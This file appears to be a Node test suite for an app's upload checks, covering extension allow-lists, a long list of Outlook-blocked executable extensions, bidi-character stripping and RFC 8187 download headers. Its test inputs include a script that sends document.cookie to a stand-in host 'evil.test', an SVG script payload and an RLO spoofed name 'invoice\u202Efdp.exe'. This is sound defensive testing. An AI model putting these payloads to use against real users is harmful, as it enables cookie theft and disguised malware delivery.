// What an upload's name may be: the attachments_allowed_types setting judges
// the name's extension as well as the claimed content type (a multipart
// header the sender writes), so a customer cannot pass invoice.html or
// invoice.exe off as text/plain; invisible characters that turn a name
// around (U+202E) are dropped; and a download names the file so that a
// browser keeps its name (RFC 8187 filename*).
import assert from 'node:assert/strict';
import { after, before, beforeEach, it } from 'node:test';
import { cleanName, isAllowed } from '../../src/files/limits.js';
import { readSettings } from '../../src/settings/settings.js';
import { expectError, kitFor } from '../helpers/api-kit.js';
import { customerUploads, PNG } from '../helpers/multipart.js';
import { describeEachStore } from '../helpers/stores.js';

const T0 = Date.parse('2026-03-02T09:00:00Z');

/**
 * Outlook's blocked attachment types (Microsoft's "Blocked attachments in
 * Outlook", with OneNote's .one and .onepkg blocked since 2023), and the
 * legacy Office templates and add-ins that carry macros.
 */
const OUTLOOK_BLOCKED = [
  ...['.ade', '.adp', '.app', '.application', '.appref-ms', '.asp', '.aspx', '.asx', '.bas', '.bat', '.bgi', '.cab', '.cer', '.chm', '.cmd', '.cnt', '.com', '.cpl', '.crt', '.csh', '.der', '.diagcab'],
  ...['.exe', '.fxp', '.gadget', '.grp', '.hlp', '.hpj', '.hta', '.htc', '.inf', '.ins', '.iso', '.isp', '.its', '.jar', '.jnlp', '.js', '.jse', '.ksh', '.lnk'],
  ...['.mad', '.maf', '.mag', '.mam', '.maq', '.mar', '.mas', '.mat', '.mau', '.mav', '.maw', '.mcf', '.mda', '.mdb', '.mde', '.mdt', '.mdw', '.mdz'],
  ...['.msc', '.msh', '.msh1', '.msh2', '.mshxml', '.msh1xml', '.msh2xml', '.msi', '.msp', '.mst', '.msu', '.one', '.onepkg', '.ops', '.osd', '.pcd', '.pif', '.pl', '.plg'],
  ...['.prf', '.prg', '.printerexport', '.ps1', '.ps1xml', '.ps2', '.ps2xml', '.psc1', '.psc2', '.psd1', '.psdm1', '.pst', '.py', '.pyc', '.pyo', '.pyw', '.pyz', '.pyzw'],
  ...['.reg', '.scf', '.scr', '.sct', '.shb', '.shs', '.theme', '.tmp', '.url', '.vb', '.vbe', '.vbp', '.vbs', '.vhd', '.vhdx', '.vsmacros', '.vsw', '.webpnp', '.website'],
  ...['.ws', '.wsb', '.wsc', '.wsf', '.wsh', '.xbap', '.xll', '.xnk'],
  ...['.dot', '.xla', '.xlt', '.pot', '.ppa'],
];

describeEachStore('attachments: a name’s extension must be allowed too', (store) => {
  const k = kitFor(store, { before, after });
  beforeEach(async () => {
    await store().reset();
    k.clock.set(T0);
  });

  const chat = () => customerUploads(k);

  it('with the default types, invoice.html and invoice.exe claiming text/plain are refused (422 SB_ATTACHMENT_TYPE naming the file); nothing is stored', async () => {
    const { upload } = await chat();
    const allowed = (await readSettings(k.t.ctx.db)).attachments_allowed_types;
    assert.ok(allowed.includes('text/plain') && !allowed.includes('.html') && !allowed.includes('.exe'), `defaults: ${allowed}`);
    await k.unchanged(async () => {
      for (const [name, type, bytes] of [
        ['invoice.html', 'text/plain', '<script>fetch("https://evil.test/?c="+document.cookie)</script>'],
        ['invoice.exe', 'text/plain', 'MZ\x90\x00'],
        ['invoice.EXE', 'image/png', 'MZ\x90\x00'],
        ['invoice.pdf.exe', 'application/pdf', 'MZ\x90\x00'],
        // a trailing dot or space, which Windows drops when it saves the file
        ['invoice.exe.', 'text/plain', 'MZ\x90\x00'],
        ['invoice.exe .', 'text/plain', 'MZ\x90\x00'],
        // a known extension of another type than the one claimed
        ['photo.svg', 'image/png', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
      ] as const) {
        const res = await upload(name, type, Buffer.from(bytes, 'latin1'));
        expectError(res, 422, 'SB_ATTACHMENT_TYPE', 'file');
        const shown = name.replace(/[. ]+$/, '');
        assert.ok(res.json().error.message.includes(JSON.stringify(shown)), `${name}: ${res.json().error.message}`);
        assert.match(res.json().error.message, /extension \.exe|extension \.html|extension \.svg/);
        assert.match(res.json().error.message, /attachments_allowed_types \(image\/\*, /);
      }
    });
    assert.equal(await k.count('attachments'), 0);
    assert.equal(await k.count('attachment_bytes'), 0);
  });

  it('with the default types, a name ending in an extension Outlook blocks as a carrier of programs or macros, claiming application/pdf, is refused naming the extension; nothing is stored', async () => {
    const { upload } = await chat();
    await k.unchanged(async () => {
      for (const ext of OUTLOOK_BLOCKED) {
        const res = await upload(`invoice${ext}`, 'application/pdf', Buffer.from('%PDF-1.4 not really'));
        expectError(res, 422, 'SB_ATTACHMENT_TYPE', 'file');
        assert.ok(res.json().error.message.includes(`extension ${ext}`), `${ext}: ${res.json().error.message}`);
      }
    });
    assert.equal(await k.count('attachments'), 0);
  });

  it('a real .txt as text/plain, a .png or .JPG as its image type, a listed extension under any type, and a name without an extension under an allowed type are stored', async () => {
    const { agent, upload } = await chat();
    const stored: string[] = [];
    for (const [name, type] of [
      ['notes.txt', 'text/plain'],
      ['server.log', 'text/plain'],
      ['photo.png', 'image/png'],
      ['IMG_0001.JPG', 'image/jpeg'],
      ['scan.heic', 'image/heic'],
      // listed extensions pass whatever the browser claims (Windows says application/vnd.ms-excel for .csv)
      ['figures.csv', 'application/vnd.ms-excel'],
      ['bundle.zip', 'application/x-zip-compressed'],
      // no extension: the claimed type decides
      ['README', 'text/plain'],
      ['.profile', 'text/plain'],
    ] as const) {
      const res = await upload(name, type, type.startsWith('image/') ? PNG : Buffer.from('hello'));
      assert.equal(res.statusCode, 201, `${name}: ${res.body}`);
      assert.equal(res.json().name, name);
      stored.push(name);
    }
    assert.equal(await k.count('attachments'), stored.length);
    // the agent downloads them under those names
    const [row] = await store().db.query<{ id: string }>(`select id from attachments where name = 'README'`);
    const got = await k.call('GET', `/api/v1/attachments/${row!.id}`, { token: agent.token });
    assert.equal(got.statusCode, 200, got.body);
    assert.match(String(got.headers['content-disposition']), /^attachment; filename="README"/);
    // a name without an extension whose type is not allowed is still refused
    expectError(await upload('setup', 'application/x-msdownload'), 422, 'SB_ATTACHMENT_TYPE', 'file');
  });

  it('an admin lets an extension in by listing it', async () => {
    const { upload } = await chat();
    const admin = await k.user('admin');
    expectError(await upload('notes.md', 'text/plain'), 422, 'SB_ATTACHMENT_TYPE', 'file');
    const patched = await k.call('PATCH', '/api/v1/settings', { token: admin.token, body: { attachments_allowed_types: ['text/plain', '.md'] } });
    assert.equal(patched.statusCode, 200, patched.body);
    assert.equal((await upload('notes.md', 'text/plain')).statusCode, 201);
    assert.equal((await upload('notes.md', 'text/markdown')).statusCode, 201);
    expectError(await upload('notes.html', 'text/plain'), 422, 'SB_ATTACHMENT_TYPE', 'file');
  });

  it('bidi overrides and zero-width characters are removed from the stored name', async () => {
    const { upload } = await chat();
    // shown as "invoiceexe.pdf" by a bidi-aware display, saved as invoice<RLO>fdp.exe
    const spoof = await upload('invoice\u202Efdp.exe', 'application/pdf');
    expectError(spoof, 422, 'SB_ATTACHMENT_TYPE', 'file');
    assert.ok(spoof.json().error.message.includes('"invoicefdp.exe"'), spoof.json().error.message);
    const res = await upload('re\u200Bport\u2066\u202Dv2\u2069\uFEFF.txt', 'text/plain');
    assert.equal(res.statusCode, 201, res.body);
    assert.equal(res.json().name, 'reportv2.txt');
    const [row] = await store().db.query<{ name: string }>('select name from attachments');
    assert.equal(row!.name, 'reportv2.txt');
  });

  it("filename* is an RFC 8187 ext-value for a name with ' ( ) *, and decodes back to the name", async () => {
    const { agent, upload } = await chat();
    const name = "l'été (1)*.txt";
    const up = await upload(name, 'text/plain');
    assert.equal(up.statusCode, 201, up.body);
    const got = await k.call('GET', `/api/v1/attachments/${up.json().id}`, { token: agent.token });
    const header = String(got.headers['content-disposition']);
    const ext = /filename\*=([^;]*)/.exec(header)![1]!;
    assert.match(ext, /^UTF-8''(?:%[0-9A-F]{2}|[A-Za-z0-9!#$&+\-.^_`|~])*$/, header);
    assert.equal(decodeURIComponent(ext.slice("UTF-8''".length)), name);
    assert.match(header, /^attachment; filename="l'_t_ \(1\)\*\.txt"; /);
  });
});

it('isAllowed and cleanName, directly', () => {
  const defaults = ['image/*', 'application/pdf', 'text/plain', 'text/csv', '.pdf', '.txt', '.csv', '.docx', '.xlsx', '.pptx', '.odt', '.ods', '.zip'];
  assert.equal(isAllowed(defaults, 'text/plain', 'a.txt'), true);
  assert.equal(isAllowed(defaults, 'text/plain', 'a.exe'), false);
  assert.equal(isAllowed(defaults, 'image/png', 'a.png'), true);
  assert.equal(isAllowed(defaults, 'image/png', 'a.jpeg'), false);
  assert.equal(isAllowed(defaults, 'image/webp', 'a.WEBP'), true);
  assert.equal(isAllowed(defaults, 'application/octet-stream', 'a.docx'), true);
  assert.equal(isAllowed(defaults, 'application/octet-stream', 'a'), false);
  assert.equal(isAllowed(defaults, 'text/plain', 'a'), true);
  assert.equal(isAllowed(['.txt'], 'text/html', 'page.txt'), true);
  assert.equal(isAllowed(['text/html'], 'text/html', 'page.html'), true);
  assert.equal(isAllowed(['text/*'], 'text/html', 'page.htm'), true);
  assert.equal(isAllowed(['text/*'], 'text/html', 'page.exe'), false);
  // what Windows runs, installs or opens with macros is no PDF, whatever the sender claims
  assert.deepEqual(OUTLOOK_BLOCKED.filter((ext) => isAllowed(defaults, 'application/pdf', `invoice${ext}`)), []);
  assert.deepEqual(OUTLOOK_BLOCKED.filter((ext) => isAllowed(defaults, 'application/pdf', `INVOICE${ext.toUpperCase()}`)), []);
  assert.equal(isAllowed([...defaults, '.one'], 'application/pdf', 'notes.one'), true, 'unless an admin lists it');
  // an unknown type under an allowed family: only a listed extension passes
  assert.equal(isAllowed(['image/*'], 'image/x-made-up', 'a.png'), false);
  assert.equal(isAllowed(['image/*', '.png'], 'image/x-made-up', 'a.png'), true);

  assert.equal(cleanName('invoice\u202Efdp.exe'), 'invoicefdp.exe');
  assert.equal(cleanName('a\u200B\u200C\u200D\u200E\u200F\u061C\u2060\u2066\u2067\u2068\u2069\u202A\u202B\u202C\u202D\uFEFF\u00ADb.txt'), 'ab.txt');
  assert.equal(cleanName('a\u0085\u009Fb.txt'), 'ab.txt', 'C1 controls');
  assert.equal(cleanName('C:\\x\\invoice.exe. . '), 'invoice.exe');
  assert.equal(cleanName('\u202E'), 'file');
  assert.equal(cleanName('...'), 'file');
  assert.equal(cleanName('résumé.pdf'), 'résumé.pdf');
  // at most 200 characters, the end kept, never half of an emoji
  const long = `${'😀'.repeat(299)}.text`;
  const cut = cleanName(long);
  assert.ok(cut.endsWith('.text') && [...cut].length === 200, cut);
  assert.doesNotThrow(() => encodeURIComponent(cut));
});
